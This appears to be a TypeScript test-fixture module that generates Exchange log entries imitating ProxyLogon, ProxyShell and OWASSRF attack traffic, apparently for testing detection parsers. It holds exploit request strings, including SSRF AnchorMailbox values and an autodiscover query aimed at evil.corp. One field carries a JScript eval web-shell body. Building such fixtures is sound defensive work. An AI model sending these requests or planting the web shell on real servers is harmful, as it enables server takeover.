/**
 * @module parsers/testing/attack-lines
 * Field values of attack traffic to plant in generated logs, modelled on what public incident
 * write-ups and Microsoft's hunting guidance show (ProxyLogon SSRF and the ECP file write,
 * ProxyShell, OWASSRF). Addresses are from the documentation ranges (RFC 5737).
 */

/** HttpProxy (Ecp): ProxyLogon SSRF to the back end, AnchorMailbox ending in `#`, no user. */
export function proxyLogonSsrf(time: number): Record<string, string> {
  return {
    DateTime: new Date(time).toISOString(),
    Protocol: 'Ecp',
    UrlStem: '/ecp/y.js',
    AuthenticatedUser: '',
    IsAuthenticated: 'False',
    AnchorMailbox: 'ServerInfo~a]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#',
    RoutingHint: 'X-BEResource-Cookie',
    UserAgent: 'ExchangeServicesClient/0.0.0.0',
    ClientIpAddress: '203.0.113.7',
    HttpStatus: '200',
    Method: 'POST',
  };
}

/** HttpProxy (Ecp): the ResetOABVirtualDirectory step of CVE-2021-27065. */
export function proxyLogonResetVdir(time: number): Record<string, string> {
  return {
    ...proxyLogonSsrf(time),
    AnchorMailbox:
      'ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=x#',
    UserAgent: 'python-requests/2.25.1',
  };
}

/**
 * ECP server log: Set-OabVirtualDirectory with a script tag in ExternalUrl. The value is the
 * decoded field; written as CSV its quotes double, as in real logs (`runat=""server""`).
 */
export function ecpOabWebShell(time: number): Record<string, string> {
  return {
    TimeStamp: new Date(time).toISOString(),
    EventData:
      'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>\'\'.Identity=\'\'OAB (Default Web Site)\'\'',
  };
}

/** IIS: successful ProxyShell (autodiscover.json with `@` reaching /powershell). */
export function proxyShellIis(time: number): Record<string, string> {
  const iso = new Date(time).toISOString();
  return {
    date: iso.slice(0, 10),
    time: iso.slice(11, 19),
    'cs-method': 'POST',
    'cs-uri-stem': '/autodiscover/autodiscover.json',
    'cs-uri-query':
      '@evil.corp/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.corp&X-Rps-CAT=VgEAVAdXaW5kb3dz',
    'cs-username': '-',
    'c-ip': '198.51.100.23',
    'cs(User-Agent)': 'Python+PSRP+Client',
    'sc-status': '200',
  };
}

/** IIS: OWASSRF (`/owa/<mailbox>@<domain>/powershell`). */
export function owaSsrfIis(time: number): Record<string, string> {
  return {
    ...proxyShellIis(time),
    'cs-uri-stem': '/owa/mastermailbox@outlook.com/powershell',
    'cs-uri-query': '-',
  };
}
